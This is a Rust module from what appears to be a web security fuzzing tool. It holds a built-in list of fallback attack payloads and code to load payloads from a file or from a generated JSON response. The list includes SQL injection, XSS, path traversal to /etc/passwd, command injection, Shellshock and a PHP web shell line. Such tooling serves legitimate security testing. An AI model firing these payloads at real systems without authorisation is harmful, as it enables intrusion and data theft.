use std::path::Path;
use std::sync::LazyLock;

use log::{debug, warn};
use rand::prelude::IndexedRandom;
use rand::Rng;
use regex::Regex;

use crate::utils::read_lines;

/// Built-in payloads used whenever generation is unavailable or fails.
pub const FALLBACK_PAYLOADS: &[&str] = &[
    "' OR '1'='1",
    "<script>alert(document.domain)</script>",
    "admin'--",
    "../../../../etc/passwd",
    "$(whoami)",
    "<img src=x onerror=alert(1)>",
    "'; WAITFOR DELAY '0:0:5'--",
    "{{7*7}}",
    "admin\"--",
    "OR 1=1",
    "<?php system($_GET['cmd']); ?>",
    "() { :;}; /bin/bash -c 'whoami'",
    "\" OR 1=1 --",
    "'; SELECT pg_sleep(5)--",
    "<svg/onload=alert(1)>",
];

static CODE_FENCE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"```json|```").expect("static regex"));

/// Where the active payload set came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PayloadOrigin {
    Fallback,
    Generated,
    File,
}

/// Non-empty ordered list of candidate payload strings.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadSet {
    payloads: Vec<String>,
    origin: PayloadOrigin,
}

impl Default for PayloadSet {
    fn default() -> Self {
        Self::fallback()
    }
}

impl PayloadSet {
    pub fn fallback() -> Self {
        Self {
            payloads: FALLBACK_PAYLOADS.iter().map(|s| s.to_string()).collect(),
            origin: PayloadOrigin::Fallback,
        }
    }

    /// Returns `None` for an empty list so a set can never be empty.
    pub fn new(payloads: Vec<String>, origin: PayloadOrigin) -> Option<Self> {
        if payloads.is_empty() {
            None
        } else {
            Some(Self { payloads, origin })
        }
    }

    /// Parses a generated response, falling back to the built-in list.
    pub fn from_response(text: &str) -> Self {
        match parse_payload_response(text) {
            Some(payloads) => Self { payloads, origin: PayloadOrigin::Generated },
            None => {
                warn!("Generated payload response unusable, using fallback list");
                Self::fallback()
            }
        }
    }

    /// Loads a payload list from a file, one payload per line.
    pub fn from_file(path: &Path) -> anyhow::Result<Self> {
        let payloads = load_list_from_file(path)?;
        Self::new(payloads, PayloadOrigin::File)
            .ok_or_else(|| anyhow::anyhow!("payload file {} contains no payloads", path.display()))
    }

    pub fn choose<R: Rng + ?Sized>(&self, rng: &mut R) -> &str {
        self.payloads
            .choose(rng)
            .map(String::as_str)
            .unwrap_or(FALLBACK_PAYLOADS[0])
    }

    pub fn as_slice(&self) -> &[String] {
        &self.payloads
    }

    pub fn len(&self) -> usize {
        self.payloads.len()
    }

    pub fn is_empty(&self) -> bool {
        self.payloads.is_empty()
    }

    pub fn origin(&self) -> PayloadOrigin {
        self.origin
    }
}

/// Extracts a payload list from a generated text response.
///
/// The response must contain a `[`; code fences are stripped before JSON
/// parsing and the result must be a non-empty array. Non-string elements are
/// kept in their JSON text form.
pub fn parse_payload_response(text: &str) -> Option<Vec<String>> {
    if !text.contains('[') {
        debug!("Response has no JSON array marker");
        return None;
    }

    let cleaned = CODE_FENCE.replace_all(text, "");
    let value: serde_json::Value = match serde_json::from_str(cleaned.trim()) {
        Ok(v) => v,
        Err(e) => {
            debug!("Response is not valid JSON: {}", e);
            return None;
        }
    };

    let items = value.as_array()?;
    let payloads: Vec<String> = items
        .iter()
        .map(|item| match item {
            serde_json::Value::String(s) => s.clone(),
            other => other.to_string(),
        })
        .collect();

    if payloads.is_empty() { None } else { Some(payloads) }
}

/// Loads lines from a file, skipping empty lines and `#` comments.
pub fn load_list_from_file(path: &Path) -> anyhow::Result<Vec<String>> {
    let lines = read_lines(path)?;
    Ok(lines.into_iter().filter(|s| !s.starts_with('#')).collect())
}
